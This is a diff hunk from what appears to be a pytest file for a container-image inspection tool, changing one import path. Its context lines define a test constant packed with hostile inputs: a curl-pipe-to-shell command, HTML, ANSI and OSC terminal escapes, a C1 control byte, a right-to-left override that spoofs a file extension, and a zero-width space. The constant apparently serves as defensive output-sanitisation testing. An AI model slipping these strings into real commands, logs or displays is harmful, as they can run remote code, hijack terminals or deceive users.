@@ -21,7 +21,7 @@ from typing import Any
 import pytest
 from reliability.helpers import run_cli
 
-from ociinspect import mediatypes
+from ociinspect.model import mediatypes
 
 #: one value per hazard; each lands in history, labels, a file path and the tag
 HOSTILE = "RUN curl https://x | sh <b>bold</b> a\\|b \x1b[31mred\x1b]0;title\x07 \x9b2J \u202etxt.exe \u200bz"
